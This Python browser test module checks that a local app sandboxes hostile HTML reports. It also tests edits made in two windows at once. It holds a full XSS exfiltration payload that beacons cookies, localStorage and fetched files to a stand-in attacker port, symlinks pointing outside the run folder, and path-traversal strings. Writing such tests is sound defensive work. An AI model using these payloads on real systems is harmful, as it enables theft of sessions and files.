"""What a page that somebody else wrote, or another port of the machine, can do in a real browser; and two windows at once."""

from __future__ import annotations

import socketserver
import threading
import time
from collections.abc import Callable, Iterator
from contextlib import contextmanager, suppress
from pathlib import Path
from typing import Any

from browser import CHROMIUM, started
from doors_wire import App, Row, run_folder

SECRET = "what stands outside the run folder"
PATIENCE_S = 15.0
"""What has to come is waited for so long: on two busy cores a page has taken seconds."""
HOSTILE = """<!doctype html><html><head><title>report</title>
<meta http-equiv="refresh" content="1; url=http://127.0.0.1:EVIL/refresh">
<meta name="referrer" content="unsafe-url">
<base href="http://127.0.0.1:EVIL/">
<link rel="stylesheet" href="http://127.0.0.1:EVIL/style.css">
<link rel="prefetch" href="http://127.0.0.1:EVIL/prefetch">
<link rel="icon" href="http://127.0.0.1:EVIL/icon">
<style>@import "http://127.0.0.1:EVIL/import.css"; body { background: url(http://127.0.0.1:EVIL/background) }
@font-face { font-family: x; src: url(http://127.0.0.1:EVIL/font) } h1 { font-family: x; color: rgb(1, 2, 3) }</style>
<script>
window.hacked = [];
const tell = (what, text) => { window.hacked.push(what); document.title = "HACKED " + what;
  new Image().src = "http://127.0.0.1:EVIL/stolen?" + what + "=" + encodeURIComponent(String(text).slice(0, 500));
  navigator.sendBeacon("http://127.0.0.1:EVIL/beacon", what + text); };
tell("script", location.href);
for (const path of ["/", "/run.toml", "notes.html", "report_figures/link.csv", "/frame/1/0.jpg"])
  fetch("http://127.0.0.1:PORT" + (path[0] === "/" ? path : "/result/x/" + path))
    .then(r => r.text()).then(t => tell("fetch " + path, t));
try { tell("cookie", document.cookie); } catch (e) {}
try { const own = new WebSocket("ws://127.0.0.1:PORT/_nicegui_ws/socket.io/?EIO=4&transport=websocket");
  own.onopen = () => tell("socket", ""); } catch (e) {}
try { tell("parent", parent.document.body.innerText); } catch (e) {}
try { tell("opener", window.opener && window.opener.location.href); } catch (e) {}
try { tell("storage", JSON.stringify(localStorage)); } catch (e) {}
try { top.location = "http://127.0.0.1:EVIL/top"; } catch (e) {}
try { window.open("http://127.0.0.1:EVIL/popup"); } catch (e) {}
</script></head><body onload="tell('onload', 1)"><h1>A report</h1>
<img src="http://127.0.0.1:EVIL/picture" onerror="tell('onerror', 1)"><img src="/frame/1/0.jpg">
<iframe src="http://127.0.0.1:EVIL/frame"></iframe><iframe src="http://127.0.0.1:PORT/"></iframe>
<iframe srcdoc="<script>parent.hacked.push('srcdoc')</script>"></iframe>
<object data="http://127.0.0.1:EVIL/object"></object><embed src="http://127.0.0.1:EVIL/embed">
<video src="http://127.0.0.1:EVIL/video" autoplay></video><script src="http://127.0.0.1:EVIL/script.js"></script>
<svg><image href="http://127.0.0.1:EVIL/svg" /><use href="http://127.0.0.1:EVIL/use#x" /></svg>
<form id="f" action="http://127.0.0.1:EVIL/form" method="post"><input name="a" value="b"><button id="send">Send</button></form>
<form action="http://127.0.0.1:PORT/" method="post"><button id="own">Send home</button></form>
<a id="out" target="_blank" href="http://127.0.0.1:EVIL/blank">out</a><a id="up" target="_top" href="http://127.0.0.1:EVIL/up">up</a>
<a id="js" href="javascript:tell('javascript', 1)">js</a>
</body></html>"""


class Evil:
    """A server of another user on another port: keeps what it is sent, answers with a page."""

    def __init__(self) -> None:
        self.got: list[str] = []
        evil = self

        class Handler(socketserver.StreamRequestHandler):
            timeout = 5

            def handle(self) -> None:
                lines = []
                try:
                    while (line := self.rfile.readline(65536).decode("latin-1").strip()) and len(lines) < 100:
                        lines.append(line)
                except OSError:
                    pass
                evil.got.append("\n".join(lines) or "a connection without a request")
                if not lines:
                    return
                answer = b"HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nConnection: close\r\n\r\nevil"
                with suppress(OSError):
                    self.wfile.write(answer)

        class Server(socketserver.ThreadingTCPServer):
            allow_reuse_address = daemon_threads = True

        self._server = Server(("127.0.0.1", 0), Handler)
        self.port = self._server.server_address[1]
        threading.Thread(target=self._server.serve_forever, daemon=True).start()

    def end(self) -> None:
        """No longer."""
        self._server.shutdown()
        self._server.server_close()


@contextmanager
def chromium() -> Iterator[Any]:
    """A browser's own fresh profile."""
    from playwright import sync_api

    with sync_api.sync_playwright() as playwright:
        browser = started(playwright)
        context = browser.new_context(viewport={"width": 1366, "height": 768})
        context.set_default_timeout(20_000)
        yield context
        browser.close()


def hostile_results(folder: Path, port: int, evil: int) -> None:
    """Put results of a hostile person into a run folder: a scripted report, links to a file outside."""
    (folder.parent / "outside").mkdir(exist_ok=True)
    secret = folder.parent / "outside" / "secret.html"
    secret.write_text(SECRET)
    figures = folder / "out" / "report_figures"
    figures.mkdir(parents=True, exist_ok=True)
    (folder / "out" / "notes.html").symlink_to(secret)
    (figures / "link.csv").symlink_to(secret)
    (figures / "motion.csv").write_text("t_s\n0\n")
    text = HOSTILE.replace("EVIL", str(evil)).replace("PORT", str(port))
    (folder / "out" / "report.html").write_text(text)


def enter(app: App, page: Any) -> None:
    """As a person does: the private file opened in the browser."""
    page.goto(app.file.as_uri())
    page.locator(".head").wait_for()


def hostile_report(app: App, context: Any, folder: Path, shots: Path | None = None) -> list[Row]:
    """The scripted report in the frame and in a tab of its own, with clicks on all that it offers; and the links."""
    evil = Evil()
    hostile_results(folder, app.port, evil.port)
    page = context.new_page()
    enter(app, page)
    page.keyboard.press("7")
    page.get_by_text("notes.html: not shown").wait_for()
    offered = page.get_by_role("button", name=f"Report {folder.name}: notes.html").count()
    rows = []
    page.get_by_role("button", name=f"Report {folder.name}: report.html").click()
    frame = page.frame_locator("iframe.result")
    frame.locator("h1").wait_for()
    address = page.locator("iframe.result").get_attribute("src")
    rows.append(_tried(app, evil, page, frame, page.frame(url=lambda url: "/result/" in url), "in the frame", shots))
    with context.expect_page() as opened:
        page.get_by_text("Open in a tab of its own").click()
    tab = opened.value
    tab.locator("h1").wait_for()
    rows.append(_tried(app, evil, tab, tab, tab.main_frame, "in a tab of its own", shots))
    assert page.locator(".head").is_visible()
    base = address.partition("?")[0].rpartition("/")[0]
    tries = [
        "notes.html",
        "report_figures/link.csv",
        "report_figures/../../run.toml",
        "../../run.toml",
        "run.toml",
        "report_figures/%2e%2e/%2e%2e/run.toml",
    ]
    answers = [app.ask(f"{base}/{name}") for name in tries]
    good = app.status(app.ask(f"{base}/report_figures/motion.csv")) == 200
    leaked = offered or any(app.status(a) == 200 or SECRET in a or "cx_px" in a for a in answers)
    rows.append(
        Row(
            "out/notes.html and a figure's CSV that are links out",
            len(tries) + 1,
            "refused, named in step 7",
            good and not leaked,
        )
    )
    evil.end()
    return rows


def _tried(app: App, evil: Evil, page: Any, place: Any, frame: Any, where: str, shots: Path | None) -> Row:
    before = len(evil.got)
    clicks = 0
    framed = where == "in the frame"
    for name in ("#send", "#own", "#out", "#js", *(("#up",) if framed else ())):
        place.locator(name).click(no_wait_after=True)
        page.wait_for_timeout(200)
        clicks += 1
    page.wait_for_timeout(2500)
    if shots is not None:
        shots.mkdir(parents=True, exist_ok=True)
        page.screenshot(path=str(shots / f"hostile {where}.png"))
    ran = frame.evaluate("typeof window.hacked") != "undefined" or "HACKED" in frame.evaluate("document.title")
    origin = frame.evaluate("self.origin")
    colour = frame.evaluate("getComputedStyle(document.querySelector('h1')).color")
    try:
        cookie = frame.evaluate("document.cookie")
    except Exception:
        cookie = "denied"
    got = evil.got[before:]
    asked = [g for g in got if not g.startswith("a connection")]
    went = ""
    if not framed:  # a tab of its own goes where a person clicks; the page's secrets do not go along
        place.locator("#up").click(no_wait_after=True)
        page.wait_for_timeout(1000)
        gone = [g for g in evil.got[before:] if g.startswith("GET /up")]
        plain = bool(gone) and "cookie:" not in gone[0].lower() and "referer:" not in gone[0].lower()
        ran |= not plain
        went = f"; a clicked link leads there{', without cookie and address' if plain else ' WITH MORE THAN IT NEEDS'}"
    places = [p.url.split("/")[3] for p in page.context.pages if p.url.endswith("/") and len(p.url.split("/")[3]) == 43]
    secrets = [place for place in places if any(place in g for g in evil.got[before:])]
    assert places
    held = (
        not ran and not asked and origin == "null" and cookie == "denied" and not secrets and colour == "rgb(1, 2, 3)"
    )
    if framed:
        held &= page.locator(".head").is_visible()
    reached = f"{len(asked)} requests reached the other port ({len(got) - len(asked)} empty connections)"
    words = f"no script ran, origin {origin}, cookie {cookie}, {reached}{went}"
    if not held:
        words += f" RAN {ran} {colour} {asked[:3]} {secrets}"
    return Row(
        f"a scripted report {where}: scripts, loads, forms, frames, refresh, links",
        HOSTILE.count("EVIL") + HOSTILE.count("PORT") + clicks,
        words,
        held,
    )


def other_port(app: App, context: Any) -> str:
    """The page's cookie as the browser hands it to another port of the machine; "" = it does not."""
    evil = Evil()
    page = context.new_page()
    enter(app, page)
    tab = context.new_page()
    tab.goto(f"http://127.0.0.1:{evil.port}/")
    evil.end()
    lines = [line for got in evil.got for line in got.splitlines() if line.lower().startswith("cookie:")]
    told = [line for got in evil.got for line in got.splitlines() if line.lower().startswith("referer")]
    assert not any(f":{app.port}" in line for line in told)
    own = [
        c.strip()
        for line in lines
        for c in line.partition(":")[2].split(";")
        if c.strip().startswith(f"towline_{app.port}=")
    ]
    return own[0] if own else ""


def fill(page: Any, label: str, text: str, leave: bool = True) -> None:
    """Type into a field; ``leave`` it, so that what was typed is taken."""
    field = page.get_by_label(label, exact=True)
    field.fill(text)
    if leave:
        field.press("Tab")


def two_windows(app: App, context: Any, folder: Path) -> list[Row]:
    """One window types while the other changes and saves; then another program writes the file."""
    one, two = context.new_page(), context.new_page()
    for page in (one, two):
        enter(app, page)
        page.keyboard.press("2")
        page.get_by_label("tow.speed_m_s", exact=True).wait_for()
    done = []

    def shows(label: str, text: str) -> bool:
        return one.get_by_label(label, exact=True).input_value() == text

    def stands(label: str, text: str) -> bool:
        one.wait_for_timeout(700)
        return shows(label, text)

    def comes(there: Callable[[], bool]) -> bool:
        """What has to be written or shown in the end is waited for: a busy machine takes longer than any pause that is fixed."""
        until = time.monotonic() + PATIENCE_S
        while not (here := there()) and time.monotonic() < until:
            one.wait_for_timeout(50)
        return here

    def saved(text: str) -> bool:
        return comes(lambda: text in (folder / "run.toml").read_text())

    # another field, then the same one
    one.get_by_label("tow.speed_m_s", exact=True).click()
    fill(one, "tow.speed_m_s", "1.31", leave=False)
    fill(two, "tow.tension_n", "4.44")
    two.keyboard.press("Control+s")
    done.append(comes(lambda: shows("tow.tension_n", "4.44")) and stands("tow.speed_m_s", "1.31"))
    fill(two, "tow.speed_m_s", "1.25")
    two.keyboard.press("Control+s")
    one.get_by_text("another window wrote '1.25' here; yours is kept").first.wait_for()
    done.append(saved("speed_m_s = 1.25") and stands("tow.speed_m_s", "1.31"))
    one.keyboard.press("Enter")
    one.wait_for_timeout(500)
    one.keyboard.press("Control+s")
    done.append(saved("speed_m_s = 1.31"))
    one.keyboard.press("Escape")
    one.keyboard.press("Control+z")
    done.append(comes(lambda: shows("tow.speed_m_s", "1.25")))
    # rows that come and go
    for page in (one, two):
        page.keyboard.press("Escape")
        page.keyboard.press("3")
        page.get_by_label("x of near_port", exact=True).wait_for()
    fill(one, "x of near_port", "-4.321", leave=False)
    two.get_by_label("Remove far_port", exact=True).click()
    one.get_by_label("x of far_port", exact=True).wait_for(state="detached")
    done.append(stands("x of near_port", "-4.321"))
    one.keyboard.press("Enter")
    one.wait_for_timeout(500)
    two.keyboard.press("Escape")
    fill(one, "x of near_port", "-4.3", leave=False)
    two.get_by_label("Remove near_port", exact=True).click()
    one.get_by_text("Typed and not taken: x of near_port: -4.3").wait_for()
    done.append(True)
    # another program
    two.keyboard.press("Control+s")
    assert comes(lambda: '"near_port"' not in (folder / "run.toml").read_text()), "the removed rows were not saved"
    theirs = (folder / "run.toml").read_text() + "# written by another program\n"
    (folder / "run.toml").write_text(theirs)
    for page in (one, two):
        page.keyboard.press("Escape")
        page.keyboard.press("2")
    fill(one, "tow.tension_n", "4.02")
    one.keyboard.press("Control+s")
    one.get_by_role("button", name="Write mine, keep theirs aside").click()
    one.get_by_text("run.theirs1.toml").wait_for()
    one.wait_for_timeout(500)
    done.append((folder / "run.theirs1.toml").read_text() == theirs)
    done.append(saved("tension_n = 4.02"))
    lost = "" if all(done) else f"; lost: {[k + 1 for k, kept in enumerate(done) if not kept]} of these"
    words = f"typed text kept {sum(done)} of {len(done)} times, told each time{lost}"
    return [Row("text typed in one window while another, or a program, saves", len(done), words, all(done))]


__all__ = [
    "CHROMIUM",
    "App",
    "Evil",
    "chromium",
    "enter",
    "fill",
    "hostile_report",
    "hostile_results",
    "other_port",
    "run_folder",
    "two_windows",
]
